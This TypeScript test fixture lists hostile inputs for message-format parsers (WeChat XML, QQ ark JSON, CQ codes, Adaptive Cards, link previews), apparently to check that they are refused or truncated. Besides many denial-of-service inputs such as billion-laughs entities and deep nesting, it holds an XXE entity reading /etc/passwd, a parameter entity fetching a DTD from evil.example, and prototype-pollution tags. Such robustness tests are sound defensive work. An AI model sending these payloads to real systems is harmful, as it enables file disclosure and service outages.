/** Payloads made to hold the thread, to overflow the stack or to be taken for something else. */

const appmsg = (inner: string) => `<msg><appmsg><title>题</title><type>5</type>${inner}<url>https://site.example/</url></appmsg></msg>`;
const ark = (inner: string) => `{"app":"com.tencent.structmsg","view":"news","meta":{"news":{"title":"题","jumpUrl":"https://site.example/"${inner}}}}`;
/** `depth` objects in one another. */
function nested(depth: number, key: string, inner: unknown = 1): unknown {
  let value = inner;
  for (let at = 0; at < depth; at++) value = {[key]: value};
  return value;
}
const many = <T>(item: T, times: number): T[] => Array.from({length: times}, () => item);
const escape = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
function quoted(levels: number): string {
  let inner = '好';
  // Each level escapes the ones below once more: ten are some 200 KB.
  for (let level = 0; level < levels; level++)
    inner = `<msg><appmsg><title>第 ${String(level)} 层</title><type>57</type><refermsg><type>49</type><content>${escape(inner)}</content></refermsg></appmsg></msg>`;
  return inner;
}
const entities = Array.from({length: 9}, (_, i) => `<!ENTITY e${String(i + 1)} "${`&e${String(i)};`.repeat(10)}">`).join('');

/** Refused, or read in part: by name. */
export const hostile: readonly (readonly [name: string, input: unknown])[] = [
  // XML
  ['a title of 5 MB', appmsg(`<des>${'长'.repeat(1_750_000)}</des>`)],
  ['a title that just fits', appmsg(`<des>${'长'.repeat(261_000)}</des>`)],
  ['a billion laughs', `<?xml version="1.0"?><!DOCTYPE m [<!ENTITY e0 "哈哈">${entities}]>${appmsg('<des>&e9;</des>')}`],
  ['an external entity', `<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>${appmsg('<des>&x;</des>')}`],
  ['a parameter entity in another case', `<?xml version="1.0"?><!doctype m [<!entity % x SYSTEM "https://evil.example/x.dtd"> %x;]>${appmsg('')}`],
  ['80,000 tags inside one another', appmsg('<a>'.repeat(80_000))],
  ['60 tags inside one another, and back, over and over', appmsg(`${'<a>'.repeat(60)}${'</a>'.repeat(60)}`.repeat(500))],
  ['200,000 opening brackets', `<msg><appmsg>${'<'.repeat(200_000)}`],
  ['60,000 empty elements', appmsg('<a/>'.repeat(60_000))],
  ['a flood of attributes', appmsg(`<a ${Array.from({length: 25_000}, (_, i) => `a${String(i)}="1"`).join(' ')}/>`)],
  ['one attribute many times', appmsg(`<a ${'a="1" '.repeat(40_000)}/>`)],
  ['a quarter of a million ampersands', appmsg(`<des>${'&'.repeat(250_000)}</des>`)],
  ['references to nothing', appmsg(`<des>${'&#0;&#xD800;&#x110000;&nope;'.repeat(9_000)}</des>`)],
  ['CDATA that never ends', appmsg(`<des>${'<![CDATA['.repeat(20_000)}`)],
  ['a comment that never ends', appmsg(`<des><!--${' -'.repeat(100_000)}`)],
  ['closing tags of nothing', appmsg('</b>'.repeat(60_000))],
  ['a quote of ten levels', quoted(10)],
  ['a sender of 200,000 characters', `${'a'.repeat(200_000)}:\n${appmsg('')}`],
  ['white space before the XML', `${' \n'.repeat(120_000)}${appmsg('')}`],
  ['escaped a hundred times', `&${'amp;'.repeat(60_000)}lt;msg&gt;&lt;appmsg&gt;`],
  ['tags named like prototypes', appmsg('<__proto__><polluted>1</polluted></__proto__><constructor/><type>51</type>')],
  ['an oEmbed of tags', `<oembed>${'<a>'.repeat(80_000)}`],
  // JSON
  ['a JSON text of 5 MB', ark(`,"desc":"${'x'.repeat(5_000_000)}"`)],
  ['a JSON text that just fits', ark(`,"desc":"${'x'.repeat(261_000)}"`)],
  ['objects 40,000 deep', `{"app":"x","meta":${'{"a":'.repeat(40_000)}1${'}'.repeat(40_001)}`],
  ['lists 120,000 deep', `${'['.repeat(120_000)}${']'.repeat(120_000)}`],
  ['a list of 120,000 numbers', `[${'1,'.repeat(120_000)}1]`],
  ['20,000 keys', `{${Array.from({length: 20_000}, (_, i) => `"k${String(i)}":1`).join(',')}}`],
  ['20,000 properties of a page', `{"og:title":"题",${Array.from({length: 10_000}, (_, i) => `"og:k${String(i)}":"v"`).join(',')}}`],
  ['quotes and backslashes', `{"a":"${'\\"'.repeat(120_000)}`],
  ['an object 5,000 deep', {msgtype: 'link', link: nested(5_000, 'title')}],
  ['an Adaptive Card in itself', {type: 'AdaptiveCard', body: [nested(2_000, 'items', [{type: 'TextBlock', text: '题'}])]}],
  [
    'an Adaptive Card of 10,000 columns',
    {type: 'AdaptiveCard', body: many({type: 'ColumnSet', columns: many({items: many({type: 'TextBlock', text: '题'}, 100)}, 100)}, 100)},
  ],
  ['a Feishu card of as many', {msg_type: 'interactive', content: {elements: many({columns: many({elements: many({text: '题'}, 100)}, 100)}, 100)}}],
  ['a graph of 100,000 nodes', {'@graph': many({'@type': 'Thing', name: '题'}, 100_000)}],
  ['100,000 offers', {'@type': 'Product', name: '题', offers: many({price: '1', priceCurrency: 'CNY'}, 100_000)}],
  ['100,000 articles', {msgtype: 'news', news: {articles: many({title: '题', url: 'https://site.example/'}, 100_000)}}],
  [
    '100,000 forwarded messages',
    {msgtype: 'merged_msg', merged_msg: {title: '题', item: many({msgtype: 'text', msg_content: '{"text":{"content":"题"}}'}, 100_000)}},
  ],
  ['100,000 embeds', {embeds: many({title: '题'}, 100_000)}],
  ['100,000 pairs', many(['og:image', 'https://site.example/1.png'], 100_000)],
  ['a Markdown of brackets', {msgtype: 'actionCard', actionCard: {title: '题', text: '![['.repeat(60_000)}}],
  ['a Markdown of seams', {msgtype: 'actionCard', actionCard: {title: '题', text: ']('.repeat(60_000)}}],
  ['a Markdown of asterisks', {msgtype: 'actionCard', actionCard: {title: '题', text: '**a'.repeat(60_000)}}],
  ['mrkdwn of brackets', {title: '题', title_link: 'https://site.example/', text: '<a|'.repeat(60_000)}],
  ['a price of digits', {'og:type': 'product', 'og:title': '题', 'og:price:amount': `${'1,'.repeat(50_000)}1`, 'og:price:currency': 'CNY'}],
  ['a duration of digits', {'@type': 'VideoObject', name: '题', duration: `PT${'1'.repeat(100_000)}H`}],
  ['an address of 200,000 characters', {'og:title': '题', 'og:url': `https://site.example/${'a'.repeat(200_000)}`, 'og:image': '../'.repeat(60_000)}],
  ['a host of 60,000 labels', {_: 'webPage', title: '题', display_url: 'a.'.repeat(60_000)}],
  ['a text of 10 MB in an envelope', {msgtype: 'text', text: {content: 'https://a.example/ '.repeat(500_000)}}],
  ['a share of a million addresses', {text: 'https://a.example/ '.repeat(50_000), title: '题'}],
  // CQ codes
  ['100,000 CQ codes that do not end', '[CQ:json,data='.repeat(18_000)],
  ['a CQ code of braces', `[CQ:json,data=${'{'.repeat(250_000)}]`],
  ['a CQ code escaped over and over', `[CQ:json,data=${'&amp;'.repeat(50_000)}#44;]`],
  ['brackets', '['.repeat(250_000)],
];
